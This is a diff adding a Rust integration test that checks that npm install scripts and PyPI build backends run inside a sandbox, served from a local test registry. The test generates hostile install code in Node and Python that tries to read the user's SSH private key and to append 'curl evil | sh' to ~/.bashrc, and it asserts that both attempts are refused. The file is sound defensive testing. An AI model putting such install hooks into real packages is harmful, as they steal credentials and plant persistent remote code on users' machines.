@@ -414,3 +414,173 @@ fn a_server_started_without_a_listed_variable_is_warned_about() {
         stderr(&out)
     );
 }
+
+/// A registry of our own on loopback (`tests/fixtures/registry.py`),
+/// serving what the test put in `folder`; stopped when dropped.
+struct Registry {
+    child: std::process::Child,
+    port: u16,
+}
+
+impl Registry {
+    fn start(folder: &std::path::Path) -> Registry {
+        let port_file = folder.join("port");
+        let child = Command::new(util::real_python3())
+            .arg(util::repo().join("tests/fixtures/registry.py"))
+            .arg(folder)
+            .arg(&port_file)
+            .spawn()
+            .unwrap();
+        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
+        loop {
+            if let Ok(p) = std::fs::read_to_string(&port_file) {
+                return Registry {
+                    child,
+                    port: p.trim().parse().unwrap(),
+                };
+            }
+            assert!(
+                std::time::Instant::now() < deadline,
+                "the registry did not start"
+            );
+            std::thread::sleep(std::time::Duration::from_millis(50));
+        }
+    }
+}
+
+impl Drop for Registry {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// What hostile install code tries, in Node and in Python: read the user's
+/// SSH key (saying whether it could), then append to `~/.bashrc` (which
+/// fails the install when refused). `home` is the real home, named in full:
+/// the installer's own HOME is elsewhere.
+fn hostile_code(home: &std::path::Path) -> (String, String) {
+    let key = home.join(".ssh/id_ed25519");
+    let rc = home.join(".bashrc");
+    let node = format!(
+        "const fs = require('fs');\n\
+         try {{ fs.readFileSync({key:?}); console.error('ssh: readable'); }}\n\
+         catch (e) {{ console.error('ssh: refused (' + e.code + ')'); }}\n\
+         fs.appendFileSync({rc:?}, 'curl evil | sh\\n');\n",
+        key = key.display().to_string(),
+        rc = rc.display().to_string()
+    );
+    let python = format!(
+        "import sys\n\
+         def attack():\n    \
+             try:\n        open({key:?}).read(); print('ssh: readable', file=sys.stderr)\n    \
+             except OSError as e:\n        print('ssh: refused (%s)' % e.strerror, file=sys.stderr)\n    \
+             open({rc:?}, 'a').write('curl evil | sh\\n')\n\
+         def get_requires_for_build_wheel(config_settings=None):\n    attack(); return []\n\
+         def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    attack(); raise SystemExit(1)\n\
+         def build_sdist(sdist_directory, config_settings=None):\n    raise SystemExit(1)\n",
+        key = key.display().to_string(),
+        rc = rc.display().to_string()
+    );
+    (node, python)
+}
+
+/// Install code runs in the sandbox: an npm package whose install script,
+/// and a PyPI source distribution whose build, try to read `~/.ssh` and
+/// append to `~/.bashrc` are both refused; the install fails and says what
+/// its code met; nothing is written and no plugin is left.
+#[test]
+fn install_code_runs_in_the_sandbox() {
+    let sandbox = Sandbox::new();
+    let home = sandbox.root.path().join("home");
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::write(home.join(".ssh/id_ed25519"), "PRIVATE KEY\n").unwrap();
+    std::fs::write(home.join(".bashrc"), "# mine\n").unwrap();
+    let (node, python) = hostile_code(&home);
+
+    let served = sandbox.root.path().join("registry");
+    let build = sandbox.root.path().join("build");
+    let pkg = build.join("package");
+    std::fs::create_dir_all(&pkg).unwrap();
+    std::fs::create_dir_all(served.join("npm")).unwrap();
+    std::fs::write(
+        pkg.join("package.json"),
+        json!({"name": "hostile-pkg", "version": "1.0.0", "bin": {"hostile-pkg": "index.js"},
+               "scripts": {"preinstall": "node steal.js"}})
+        .to_string(),
+    )
+    .unwrap();
+    std::fs::write(pkg.join("steal.js"), node).unwrap();
+    std::fs::write(pkg.join("index.js"), "").unwrap();
+    let sdist = build.join("hostile_sdist-1.0.0");
+    std::fs::create_dir_all(&sdist).unwrap();
+    std::fs::create_dir_all(served.join("pypi")).unwrap();
+    std::fs::write(
+        sdist.join("pyproject.toml"),
+        "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n\n[project]\nname = \"hostile-sdist\"\nversion = \"1.0.0\"\n",
+    )
+    .unwrap();
+    std::fs::write(
+        sdist.join("PKG-INFO"),
+        "Metadata-Version: 2.1\nName: hostile-sdist\nVersion: 1.0.0\n",
+    )
+    .unwrap();
+    std::fs::write(sdist.join("backend.py"), python).unwrap();
+    for (out, dir) in [
+        (served.join("npm/hostile-pkg-1.0.0.tgz"), "package"),
+        (
+            served.join("pypi/hostile_sdist-1.0.0.tar.gz"),
+            "hostile_sdist-1.0.0",
+        ),
+    ] {
+        let tar = Command::new("tar")
+            .arg("czf")
+            .arg(&out)
+            .arg("-C")
+            .arg(&build)
+            .arg(dir)
+            .status()
+            .unwrap();
+        assert!(tar.success());
+    }
+    let registry = Registry::start(&served);
+    let url = format!("http://127.0.0.1:{}", registry.port);
+
+    let mut tries = vec![];
+    if npm_here() {
+        let mut c = cmd(&sandbox, &["add", "npm:hostile-pkg", "--yes"]);
+        c.env("npm_config_registry", format!("{url}/"));
+        tries.push(("npm", c, "EACCES"));
+    }
+    let mut c = cmd(&sandbox, &["add", "pypi:hostile-sdist", "--yes"]);
+    c.env("PIP_INDEX_URL", format!("{url}/simple/"))
+        .env("PIP_FIND_LINKS", "")
+        .env("PIP_NO_CACHE_DIR", "1");
+    tries.push(("pypi", c, "Permission denied"));
+    for (kind, c, refusal) in tries {
+        let out = util::run(c);
+        let said = format!("{}\n{}", stdout(&out), stderr(&out));
+        assert_eq!(
+            std::fs::read_to_string(home.join(".bashrc")).unwrap(),
+            "# mine\n",
+            "{kind}: {said}"
+        );
+        assert!(!out.status.success(), "{kind}: {said}");
+        assert!(said.contains("in the sandbox failed"), "{kind}: {said}");
+        assert!(said.contains("ssh: refused"), "{kind}: {said}");
+        assert!(!said.contains("ssh: readable"), "{kind}: {said}");
+        assert!(
+            said.contains(".bashrc") && said.contains(refusal),
+            "{kind}: {said}"
+        );
+        assert_eq!(
+            std::fs::read_to_string(home.join(".bashrc")).unwrap(),
+            "# mine\n",
+            "{kind}"
+        );
+        let left: Vec<_> = std::fs::read_dir(sandbox.plugins())
+            .map(|d| d.flatten().map(|e| e.file_name()).collect())
+            .unwrap_or_default();
+        assert!(left.is_empty(), "{kind}: {left:?}");
+    }
+}
